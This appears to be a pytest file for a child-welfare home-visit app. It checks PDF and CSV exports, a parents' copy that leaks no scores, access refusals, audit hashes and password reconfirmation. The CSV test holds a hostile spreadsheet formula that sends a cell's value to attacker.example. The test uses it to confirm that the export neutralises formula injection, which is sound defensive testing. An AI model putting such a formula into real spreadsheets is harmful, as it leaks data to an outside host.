"""The summary PDF and CSVs and the parents' copy, read back with poppler-utils and csv."""

from __future__ import annotations

import datetime as dt
import hashlib
import re
from zoneinfo import ZoneInfo

from sqlalchemy import select, update

from homelog.accounts.models import User, UserSession
from homelog.exports.csv_files import SUMMARY_HEADER, neutralise
from homelog.exports.report import age_in_words, status_of, trend_of
from homelog.extensions import db
from tests.exports.conftest import (
    Team,
    export_entries,
    pdf_images,
    pdf_pages,
    pdf_text,
    read_csv,
    rendered_pages,
)
from tests.factories import DOMAINS
from tests.support import clock

ZONE = ZoneInfo("Europe/London")
MARKING = "OFFICIAL-SENSITIVE"


def _days_ago(days: int, hour: int = 11) -> dt.datetime:
    return clock.days_ago(days, hour + 5 / 60)


def _printed(instant: dt.datetime) -> str:
    """A visit's date as the PDF prints it (partnership time): "3 Mar 2026"."""
    local = instant.astimezone(ZONE)
    return f"{local.day} {local:%b %Y}"


def _assert_marked_and_numbered(data: bytes) -> list[str]:
    pages = pdf_pages(data)
    assert pages, "the PDF has no text at all"
    for number, page in enumerate(pages, start=1):
        assert page.count(MARKING) >= 2, f"page {number} lacks the marking top and bottom"
        assert f"Page {number} of {len(pages)}" in page, f"page {number} is not numbered"
    return pages


def _agree(team: Team, note: str = "", levels: dict[str, int] | None = None) -> None:
    response = team.lead.put(team.url("agreement"), json={
        "agreed_on": (clock.today() - dt.timedelta(days=30)).isoformat(),
        "levels": levels or dict.fromkeys(DOMAINS, 2), "note": note,
        "shared_with_parents_on": (clock.today() - dt.timedelta(days=29)).isoformat()})
    assert response.status_code == 200, response.json


# --- the summary PDF -----------------------------------------------------------------------

def test_summary_pdf_holds_flags_responses_visit_dates_and_charts(team: Team):
    first_at, second_at = _days_ago(20), _days_ago(3)
    team.visit(first_at, announced=True)
    team.visit(second_at, {"food": 5, "kitchen": 4}, concerns=["no_food"],
               notes="Fridge and cupboards empty; mother says benefits are late.")
    flags = team.lead.get(team.url("flags")).json
    assert flags, "an immediate concern raises a flag at once"
    response_text = "Food bank parcel delivered the same day; revisit tomorrow."
    acknowledged = team.lead.post(f"/api/v1/flags/{flags[0]['id']}/acknowledge",
                                  json={"response": response_text})
    assert acknowledged.status_code == 200

    pdf = team.lead.get(team.url("summary.pdf"))
    assert pdf.status_code == 200, pdf.get_data(as_text=True)[:300]
    assert pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF-")
    assert pdf.headers["Cache-Control"] == "private, no-store"
    disposition = pdf.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="homelog-[A-Za-z0-9_-]+-summary-'
                        r'\d{4}-\d\d-\d\d-to-\d{4}-\d\d-\d\d\.pdf"', disposition), disposition

    pages = _assert_marked_and_numbered(pdf.data)
    text = pdf_text(pdf.data)
    assert team.family.reference in text
    for flag in flags:
        assert " ".join(flag["explanation"].split()) in text
    assert response_text in text
    assert _printed(first_at) in text, text
    assert _printed(second_at) in text, text
    assert "Fridge and cupboards empty" in text
    assert "(!!) Concern" in text  # the glance says it in words, not only by shading
    # The picture and the open concerns now, as the family screen shows them, come first.
    picture = team.lead.get(team.url("concerns")).json
    assert text.index("The picture on ") < text.index("At a glance")
    for sentence in picture["picture"]:
        assert " ".join(sentence.split()) in text
    for concern in picture["concerns"]:
        assert " ".join(concern["sentence"].split()) in text
    charts = [image for image in pdf_images(pdf.data) if image["color"] == "gray"]
    assert len(charts) == len(DOMAINS), "one trend chart per scored domain"
    assert rendered_pages(pdf.data) == len(pages)


def test_people_s_text_prints_as_typed_however_long_or_odd(team: Team):
    markup = 'Mother wrote <b>"not bold"</b> & <font size=40>big</font> on the fridge.'
    long_note = " ".join(f"Observation {number} about the kitchen and the stairs."
                         for number in range(1, 90)) + " Final sentence of a long note."
    assert len(long_note) > 4000
    original = team.visit(_days_ago(4), notes=markup)
    team.factory.amendment(original, team.practitioner_ref.id, "Typed the wrong note.",
                           notes=f"{markup} Corrected.")
    team.visit(_days_ago(2), notes=long_note)
    team.visit(_days_ago(1), concerns=["no_food"], notes="Cupboards bare.")
    flag_id = team.lead.get(team.url("flags")).json[0]["id"]
    assert team.lead.post(f"/api/v1/flags/{flag_id}/acknowledge", json={
        "response": "Food bank referral made.", "close": True}).status_code == 200

    pdf = team.lead.get(team.url("summary.pdf"))
    assert pdf.status_code == 200
    _assert_marked_and_numbered(pdf.data)
    text = pdf_text(pdf.data)
    assert " ".join(f"{markup} Corrected.".split()) in text  # escaped, not read as markup
    assert f"Corrected record (replaces visit {original}): Typed the wrong note." in text
    assert text.count('Mother wrote <b>"not bold"</b>') == 1  # the superseded one is not shown
    assert "Observation 1 about the kitchen" in text and "Final sentence of a long note." in text
    assert "Food bank referral made." in text and "by Test lead_social_worker" in text


def test_a_note_longer_than_a_page_is_split_across_pages(team: Team, app, monkeypatch):
    monkeypatch.setitem(app.config, "HOMELOG_NOTES_MAX_CHARS", 30000)
    note = " ".join(f"Line {number} of a very long account of the visit." for number in
                    range(1, 520)) + " The very end."
    team.visit(_days_ago(2), notes=note)
    pdf = team.lead.get(team.url("summary.pdf"))
    assert pdf.status_code == 200
    pages = _assert_marked_and_numbered(pdf.data)
    text = pdf_text(pdf.data)
    assert "Line 1 of a very long" in text and "The very end." in text
    assert len(pages) >= 4


def test_summary_pdf_of_a_family_with_no_visits(team: Team):
    pdf = team.lead.get(team.url("summary.pdf"))
    assert pdf.status_code == 200
    pages = _assert_marked_and_numbered(pdf.data)
    text = pdf_text(pdf.data)
    assert "No visits or events were recorded in this period" in text
    assert "Homelog raised no flags in this period" in text
    assert "No photos in this period" in text
    assert pdf_images(pdf.data) == []
    assert rendered_pages(pdf.data) == len(pages)


def test_summary_pdf_of_a_family_with_one_visit(team: Team):
    when = _days_ago(7)
    team.visit(when, notes="Only visit so far.")
    pdf = team.lead.get(team.url("summary.pdf"))
    assert pdf.status_code == 200
    pages = _assert_marked_and_numbered(pdf.data)
    text = pdf_text(pdf.data)
    assert _printed(when) in text and "Only visit so far." in text
    assert "Visits: 1, of which unannounced: 1." in text
    assert len([image for image in pdf_images(pdf.data) if image["color"] == "gray"]) == \
        len(DOMAINS)
    assert rendered_pages(pdf.data) == len(pages)


def test_the_period_chooses_what_is_shown(team: Team):
    old, recent = _days_ago(60), _days_ago(5)
    for when, note in ((old, "Old visit note."), (recent, "Recent visit note.")):
        team.visit(when, notes=note)
    start = (clock.today() - dt.timedelta(days=10)).isoformat()
    pdf = team.lead.get(team.url("summary.pdf"), query_string={"from": start})
    text = pdf_text(pdf.data)
    assert "Recent visit note." in text and "Old visit note." not in text
    rows = read_csv(team.lead.get(team.url("visits.csv"), query_string={"from": start}).data)
    assert len(rows) == 2 and rows[1][-3] == "Recent visit note."


def test_bad_periods_are_refused_naming_the_field(team: Team):
    today = clock.today()
    cases = [
        ({"from": "2026-13-01"}, "from"),
        ({"to": "yesterday"}, "to"),
        ({"from": today.isoformat(), "to": (today - dt.timedelta(days=1)).isoformat()}, "from"),
        ({"to": (today + dt.timedelta(days=2)).isoformat()}, "to"),
        ({"from": "1800-01-01"}, "from"),
        ({"since": "2026-01-01"}, "since"),
    ]
    for what in ("summary.pdf", "summary.csv", "visits.csv"):
        for query, field in cases:
            response = team.lead.get(team.url(what), query_string=query)
            assert response.status_code == 422, (what, query, response.status_code)
            assert field in response.json["error"]["fields"], (what, query, response.json)


# --- CSV -----------------------------------------------------------------------------------

def test_csvs_round_trip_and_neutralise_formulas(team: Team):
    hostile = '=HYPERLINK("http://attacker.example/steal?x="&A1,"Click for details")'
    visits = [
        team.visit(_days_ago(9), notes=hostile),
        team.visit(_days_ago(6), notes="+44 7700 900000 called",
                   child_presentation="@SUM(1+1)"),
        team.visit(_days_ago(2), {"warmth": None, "air": 4},
                   notes="-2 degrees outside; heating off"),
    ]

    scores = team.lead.get(team.url("summary.csv"))
    assert scores.status_code == 200
    assert scores.mimetype == "text/csv" and scores.headers["Cache-Control"] == "private, no-store"
    assert scores.headers["Content-Disposition"].startswith('attachment; filename="homelog-')
    assert b"\r\n" in scores.data
    rows = read_csv(scores.data)
    assert tuple(rows[0]) == SUMMARY_HEADER
    assert len(rows) == 1 + len(visits) * len(DOMAINS)
    assert all(row[0] == team.family.reference for row in rows[1:])
    warmth = [row for row in rows[1:] if row[7] == "warmth"]
    assert [row[9] for row in warmth] == ["2", "2", ""]  # not seen: empty, never a 0
    assert [row[11] for row in warmth] == ["good enough", "good enough", "not seen"]
    air = [row for row in rows[1:] if row[7] == "air"]
    assert air[-1][9:] == ["4", "2", "concern"]

    listed = read_csv(team.lead.get(team.url("visits.csv")).data)
    assert len(listed) == 1 + len(visits)
    notes = {row[1]: row[-3] for row in listed[1:]}
    assert sorted(notes.values()) == sorted([
        "'" + hostile, "'+44 7700 900000 called", "'-2 degrees outside; heating off"])
    assert any(row[-4] == "'@SUM(1+1)" for row in listed[1:])
    for row in listed[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


def test_neutralise_only_touches_text_that_starts_like_a_formula():
    for risky in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert neutralise(risky) == "'" + risky
    for safe in ("Kitchen", "1-2", "", "a=b"):
        assert neutralise(safe) == safe


# --- the parents' copy --------------------------------------------------------------------

def test_parents_copy_is_plain_and_holds_no_scores_flags_or_notes(team: Team):
    agreement_note = "Core group note: mother minimises the dog mess issue."
    _agree(team, note=agreement_note, levels=dict.fromkeys(DOMAINS, 2) | {"sleep": 1})
    visit_note = "Baby asleep on the sofa with father after he had been drinking."
    team.visit(_days_ago(1), dict.fromkeys(DOMAINS, 4), concerns=["unsafe_sleep"],
               notes=visit_note)
    flags = team.lead.get(team.url("flags")).json
    assert flags

    pdf = team.lead.get(team.url("agreement.pdf"))
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    assert "agreement-parents-copy.pdf" in pdf.headers["Content-Disposition"]
    pages = pdf_pages(pdf.data)
    assert 1 <= len(pages) <= 2
    text = pdf_text(pdf.data)
    agreement = team.lead.get(team.url("agreement")).json["current"]
    for level in agreement["levels"]:
        assert " ".join(level["descriptor"].split()) in text  # the rubric's own words
    assert "Own cot/bed, clean bedding" in text  # sleep agreed at 1
    agreed_on = dt.date.fromisoformat(agreement["agreed_on"])
    assert f"{agreed_on.day} {agreed_on:%B %Y}" in text
    assert agreement["recorded_by"] in text
    leaks = [agreement_note, visit_note, *[flag["explanation"] for flag in flags],
             "Score", "score", "Flag", "flag", "OFFICIAL", "concern", "level"]
    for leak in leaks:
        assert " ".join(leak.split()) not in text, f"the parents' copy shows {leak!r}"
    # No number but the dates, page numbers and names (test agencies are numbered): no
    # level or score can hide in it.
    stripped = re.sub(r"\b\d{1,2} [A-Z][a-z]+ \d{4}\b|Page \d+ of \d+|written down by [^.]*",
                      "", text.replace(team.family.reference, ""))
    assert not re.search(r"\d", stripped), stripped


def test_parents_copy_needs_an_agreement(team: Team):
    response = team.lead.get(team.url("agreement.pdf"))
    assert response.status_code == 409
    assert response.json["error"]["code"] == "no_agreement"


# --- access, audit and a recent sign-in ----------------------------------------------------

EXPORTS = ("summary.pdf", "summary.csv", "visits.csv", "agreement.pdf")


def test_outsiders_get_404_and_strangers_401(team: Team, factory, make_client):
    _agree(team)
    outsider = make_client()
    assert outsider.sign_in(factory.lead().email).status_code == 201
    anonymous = make_client()
    for what in EXPORTS:
        assert outsider.get(team.url(what)).status_code == 404, what
        assert anonymous.get(team.url(what)).status_code == 401, what
        assert team.practitioner.get(team.url(what)).status_code == 200, what
    assert outsider.get("/api/v1/families/999999999/summary.pdf").status_code == 404
    assert export_entries(team.lead.app, team.family.id) and all(
        entry.user_id == team.practitioner_ref.id
        for entry in export_entries(team.lead.app, team.family.id))


def test_every_export_is_audited_with_period_format_and_hash(team: Team):
    _agree(team)
    team.visit()
    start = (clock.today() - dt.timedelta(days=40)).isoformat()
    end = clock.today().isoformat()
    produced = {}
    for what in EXPORTS:
        response = team.lead.get(team.url(what), query_string={} if what == "agreement.pdf"
                                 else {"from": start, "to": end})
        assert response.status_code == 200, what
        produced[what] = response.data
    entries = export_entries(team.lead.app, team.family.id)
    assert len(entries) == len(EXPORTS)
    expected = {"summary.pdf": ("summary", "pdf"), "summary.csv": ("summary", "csv"),
                "visits.csv": ("visits", "csv"), "agreement.pdf": ("agreement", "pdf")}
    for entry, (what, data) in zip(entries, produced.items(), strict=True):
        assert entry.user_id == team.family.lead.id
        assert (entry.detail["export"], entry.detail["format"]) == expected[what]
        assert entry.detail["sha256"] == hashlib.sha256(data).hexdigest()
        assert entry.detail["bytes"] == len(data)
        period = (None, None) if what == "agreement.pdf" else (start, end)
        assert (entry.detail["from"], entry.detail["to"]) == period


def test_a_refused_export_leaves_no_export_entry(team: Team, factory, make_client):
    outsider = make_client()
    assert outsider.sign_in(factory.user().email).status_code == 201
    assert outsider.get(team.url("summary.pdf")).status_code == 404
    assert team.lead.get(team.url("summary.pdf"), query_string={"from": "x"}).status_code == 422
    assert export_entries(team.lead.app, team.family.id) == []


def _age_session(app, email: str, hours: float) -> None:
    with app.app_context():
        user_id = db.session.execute(select(User.id).where(User.email == email)).scalar()
        earlier = clock.now() - dt.timedelta(hours=hours)
        db.session.execute(update(UserSession).where(UserSession.user_id == user_id)
                           .values(created_at=earlier))
        db.session.commit()


def test_an_old_sign_in_must_confirm_the_password_before_exporting(team: Team, factory,
                                                                    make_client):
    _agree(team)
    _age_session(team.lead.app, team.family.lead.email, hours=2)
    outsider_ref = factory.lead()
    outsider = make_client()
    assert outsider.sign_in(outsider_ref.email).status_code == 201
    _age_session(team.lead.app, outsider_ref.email, hours=2)
    # Outside the core group the answer is 404 before any question of passwords.
    assert outsider.get(team.url("summary.pdf")).status_code == 404
    for what in EXPORTS:
        refused = team.lead.get(team.url(what))
        assert refused.status_code == 403, what
        assert refused.json["error"]["code"] == "reauthentication_required"
    assert team.lead.get(team.url("timeline")).status_code == 200  # still signed in

    wrong = team.lead.post("/api/v1/session/confirm", json={"password": "not my password"})
    assert wrong.status_code == 422 and "password" in wrong.json["error"]["fields"]
    assert team.lead.get(team.url("summary.csv")).status_code == 403

    confirmed = team.lead.post("/api/v1/session/confirm",
                               json={"password": "correct horse battery staple"})
    assert confirmed.status_code == 200, confirmed.json
    until = dt.datetime.fromisoformat(confirmed.json["recent_until"])
    assert dt.timedelta(minutes=14) < until - clock.now() <= dt.timedelta(minutes=15)
    for what in EXPORTS:
        assert team.lead.get(team.url(what)).status_code == 200, what
    # Only the downloads made are in the audit trail: the refusals left no export entry.
    assert len(export_entries(team.lead.app, team.family.id)) == len(EXPORTS)


def test_confirming_needs_a_signed_in_session_and_the_csrf_token(team: Team, make_client):
    anonymous = make_client()
    assert anonymous.post("/api/v1/session/confirm",
                          json={"password": "correct horse battery staple"}).status_code == 401
    team.lead.csrf = None
    refused = team.lead.post("/api/v1/session/confirm",
                             json={"password": "correct horse battery staple"})
    assert refused.status_code == 403 and refused.json["error"]["code"] == "csrf_failed"


# --- small rules ---------------------------------------------------------------------------

def test_ages_and_statuses_in_words():
    born = dt.date(2025, 3, 15)
    assert age_in_words(born, dt.date(2025, 3, 18)) == "under a week"
    assert age_in_words(born, dt.date(2025, 4, 1)) == "2 weeks"
    assert age_in_words(born, dt.date(2025, 9, 20)) == "6 months"
    assert age_in_words(born, dt.date(2026, 3, 15)) == "1 year"
    assert age_in_words(born, dt.date(2027, 7, 14)) == "2 years 3 months"
    assert status_of(2, 2, 4) == "good enough"
    assert status_of(3, 2, 4) == "borderline"
    assert status_of(2, 1, 4) == "borderline"
    assert status_of(4, 2, 4) == "concern"
    assert status_of(3, 3, 4) == "good enough"
    assert status_of(None, 2, 4) == "not scored"
    assert trend_of([2, 2]) == "too few scores to tell"
    assert trend_of([2, 2.5, 3]) == "worsening"
    assert trend_of([4, 3, 2]) == "improving"
    assert trend_of([2, 3, 2.4]) == "no clear change"
